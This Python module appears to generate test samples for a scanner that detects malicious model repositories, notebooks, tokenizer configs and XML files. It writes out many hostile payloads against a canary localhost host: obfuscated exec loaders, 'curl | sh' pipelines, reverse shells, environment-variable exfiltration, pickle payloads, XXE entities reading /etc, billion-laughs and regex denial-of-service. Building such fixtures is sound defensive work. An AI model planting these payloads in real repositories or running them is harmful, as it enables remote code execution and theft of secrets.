"""Files around a model that run code: Hugging Face repositories, Python modules, notebooks, templates, XML."""

from __future__ import annotations

import base64
import json
import zlib
from collections.abc import Iterator

from corpus.opcodes import EVIL
from corpus.sample import CANARY, CODE, SHELL, Draft, other
from corpus.weights import TEMPLATES

URL = f"http://127.0.0.1:9/{CANARY}"
PLAIN_MODULE = "from torch import nn\n\n\nclass Net(nn.Module):\n    def forward(self, x):\n        return x\n"
AUTO_MAP = {"model_type": "custom", "architectures": ["Net"], "auto_map": {"AutoModel": "modeling_net.Net"}}


def drafts() -> Iterator[Draft]:
    """All of them."""
    yield from modules()
    yield from configurations()
    yield from notebooks()
    yield from documents()


def modules() -> Iterator[Draft]:
    """Python that attacks when it is imported, as ``modeling_*.py`` of a repository with ``auto_map``."""
    encoded = base64.b64encode(CODE.encode()).decode()
    evil = base64.b64encode(EVIL).decode()
    packed = base64.b64encode(zlib.compress(CODE.encode())).decode()
    for technique, source in {
        "exec-base64": f"import base64\nexec(base64.b64decode({encoded!r}))\n",
        "exec-zlib": f"import base64, zlib\nexec(zlib.decompress(base64.b64decode({packed!r})))\n",
        "exec-hex": f"exec(bytes.fromhex({CODE.encode().hex()!r}).decode())\n",
        "exec-import": f"exec(__import__('base64').b64decode({encoded!r}))\n",
        "exec-lambda": "_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__))\n"
        f"exec(_({packed!r}))\n",
        "system": f"import os\nos.system({SHELL!r})\n",
        "system-curl": f"import os\nos.system('true; curl -s http://127.0.0.1:9/{CANARY} | sh; {SHELL}')\n",
        "popen-shell": f"import subprocess\nsubprocess.Popen('wget -qO- {URL} | bash; {SHELL}', shell=True)\n",
        "reverse-shell": "import socket, subprocess, os\ns = socket.socket()\ns.connect(('127.0.0.1', 9))\n"
        "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])\n",
        "getattr-import": f"getattr(__import__('o' + 's'), 'sys' + 'tem')({SHELL!r})\n",
        "download-and-run": f"import urllib.request\nexec(urllib.request.urlopen('{URL}').read())\n",
        "pickle-loads": f"import pickle, base64\npickle.loads(base64.b64decode({evil!r}))\n",
        "marshal": f"import marshal, base64\nexec(marshal.loads(base64.b64decode({_marshalled()!r})))\n",
        "ctypes": f"import ctypes\nctypes.CDLL(None).system({SHELL.encode()!r})\n",
        "secrets-out": f"import os, urllib.request as r\nr.urlopen('{URL}', data=str(dict(os.environ)).encode())\n",
    }.items():
        files = {"modeling_net.py": (source + PLAIN_MODULE).encode(), "config.json": json.dumps(AUTO_MAP).encode()}
        yield other(f"repository-{technique}", files, "python")
    in_class = (
        PLAIN_MODULE
        + "\n    def __init__(self):\n        super().__init__()\n"
        + f"        __import__('os').system({SHELL!r})\n\n\nNet()\n"
    )
    yield other(
        "repository-in-a-method",
        {"modeling_net.py": in_class.encode(), "config.json": json.dumps(AUTO_MAP).encode()},
        "python",
    )
    setup = f"from setuptools import setup\nimport os\nos.system({SHELL!r})\n"
    yield other("repository-setup", {"setup.py": setup.encode()}, "python")
    yield Draft(
        "repository-auto-map",
        {"config.json": json.dumps(AUTO_MAP).encode(), "modeling_net.py": PLAIN_MODULE.encode()},
        label="code",
        family="other",
        harm="none",
    )


def _marshalled() -> str:
    import marshal

    return base64.b64encode(marshal.dumps(compile(CODE, "x", "exec"))).decode()


def configurations() -> Iterator[Draft]:
    """Configuration that names code of other repositories, and templates."""
    elsewhere = {**AUTO_MAP, "auto_map": {"AutoModel": "someone/other--modeling_net.Net"}}
    yield other("config-auto-map-elsewhere", {"config.json": json.dumps(elsewhere).encode()})
    yield other(
        "config-trust-remote-code",
        {"config.json": json.dumps({"model_type": "custom", "trust_remote_code": True}).encode()},
    )
    pipelines = {
        "model_type": "bert",
        "custom_pipelines": {"tag": {"impl": "someone/other--pipe.Pipe", "pt": ["AutoModel"]}},
    }
    yield other("config-custom-pipeline", {"config.json": json.dumps(pipelines).encode()})
    for technique, name, value in (
        ("kernels", "config.json", {"model_type": "bert", "_attn_implementation": "someone/kernels"}),
        (
            "peft-library",
            "adapter_config.json",
            {"auto_mapping": {"base_model_class": "abort", "parent_library": "os"}},
        ),
        ("activation", "2_Dense/config.json", {"in_features": 3, "activation_function": "os.abort"}),
        ("tool", "agent.json", {"tools": [{"tool_class": "tool.Search"}]}),
        ("torchtune", "settings.json", {"model": {"_component_": "os.system", "command": SHELL}}),
        ("utf-16", "config.json", AUTO_MAP),
    ):
        text = json.dumps(value)
        yield other(f"config-{technique}", {name: text.encode("utf-16" if technique == "utf-16" else "utf-8")})
    tokenizer = {"tokenizer_class": "Tok", "auto_map": {"AutoTokenizer": ["someone/other--tok.Tok", None]}}
    yield other("tokenizer-auto-map", {"tokenizer_config.json": json.dumps(tokenizer).encode()})
    for way in ("cycler", "class-walk", "attr-joined", "attr-escaped", "lipsum", "map-attribute"):
        text = json.dumps({"tokenizer_class": "LlamaTokenizer", "chat_template": TEMPLATES[way]}).encode()
        yield other(f"tokenizer-template-{way}", {"tokenizer_config.json": text}, "template")
    named = [{"name": "default", "template": "{{ messages }}"}, {"name": "tool_use", "template": TEMPLATES["cycler"]}]
    yield other(
        "tokenizer-template-list", {"tokenizer_config.json": json.dumps({"chat_template": named}).encode()}, "template"
    )
    yield other("template-file", {"chat_template.jinja": TEMPLATES["lipsum"].encode()}, "template")
    yield other(
        "template-json", {"chat_template.json": json.dumps({"chat_template": TEMPLATES["self"]}).encode()}, "template"
    )
    regex = {
        "version": "1.0",
        "pre_tokenizer": {"type": "Split", "pattern": {"Regex": "(a+)+$"}, "behavior": "Isolated"},
        "model": {"type": "BPE", "vocab": {}, "merges": []},
    }
    yield other("tokenizer-regex-bomb", {"tokenizer.json": json.dumps(regex).encode()}, harm="denial")


def notebook(*cells: str, outputs: list[dict[str, object]] | None = None) -> bytes:
    """A notebook of code cells."""
    made = [
        {
            "cell_type": "code",
            "execution_count": 1,
            "metadata": {},
            "outputs": outputs or [],
            "source": text.splitlines(keepends=True),
        }
        for text in cells
    ]
    return json.dumps({"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


def notebooks() -> Iterator[Draft]:
    """Code cells, shell magics, active output."""
    load = "import torch\n"
    for technique, cell in {
        "shell": f"!curl -s http://127.0.0.1:9/{CANARY} | sh; {SHELL}",
        "bash-cell": f"%%bash\ncurl -s http://127.0.0.1:9/{CANARY} | sh; {SHELL}",
        "exec-base64": f"import base64\nexec(base64.b64decode('{base64.b64encode(CODE.encode()).decode()}'))",
        "system": f"import os\nos.system('curl -s http://127.0.0.1:9/{CANARY} | sh; {SHELL}')",
        "reverse-shell": f"!bash -i >& /dev/tcp/127.0.0.1/9 0>&1; {SHELL}",
        "sx": f"%sx wget -qO- http://127.0.0.1:9/{CANARY} | sh; {SHELL}",
    }.items():
        yield other(
            f"notebook-{technique}", {"train.ipynb": notebook(load.replace("import torch", "x = 1"), cell)}, "notebook"
        )
    script = {
        "output_type": "display_data",
        "metadata": {},
        "data": {"text/html": ["<script>fetch('http://127.0.0.1:9/canary')</script>"]},
    }
    yield other("notebook-output-script", {"train.ipynb": notebook("x = 1", outputs=[script])})
    active = {
        "output_type": "display_data",
        "metadata": {},
        "data": {"application/javascript": "fetch('http://127.0.0.1:9/canary')"},
    }
    yield other("notebook-output-javascript", {"train.ipynb": notebook("x = 1", outputs=[active])})


def documents() -> Iterator[Draft]:
    """XML that reads files or explodes."""
    head = '<?xml version="1.0"?>\n'
    body = '<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header copyright="%s"/><DataDictionary/></PMML>'
    lols = "".join(f'<!ENTITY l{i + 1} "{f"&l{i};" * 10}">' for i in range(12))
    for technique, text, harm in (
        ("external-entity", f'{head}<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/{CANARY}">]>{body % "&x;"}', "code"),
        (
            "external-entity-url",
            f'{head}<!DOCTYPE PMML [<!ENTITY x SYSTEM "http://127.0.0.1:9/{CANARY}">]>{body % "&x;"}',
            "code",
        ),
        (
            "parameter-entity",
            f'{head}<!DOCTYPE PMML [<!ENTITY % x SYSTEM "http://127.0.0.1:9/{CANARY}"> %x;]>{body.replace("%s", "")}',
            "code",
        ),
        ("external-dtd", f'{head}<!DOCTYPE PMML SYSTEM "http://127.0.0.1:9/{CANARY}">{body % ""}', "code"),
        ("billion-laughs", f'{head}<!DOCTYPE PMML [<!ENTITY l0 "lol">{lols}]>{body % "&l12;"}', "denial"),
        ("deep", head + "<PMML>" + "<a>" * 200_000, "denial"),
    ):
        yield other(f"pmml-{technique}", {"model.pmml": text.encode()}, harm=harm)  # type: ignore[arg-type]
    net = '{head}<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/{canary}">]><net name="m"><layers>&x;</layers></net>'
    yield other(
        "openvino-external-entity", {"model.xml": net.format(head=head, canary=CANARY).encode(), "model.bin": bytes(16)}
    )
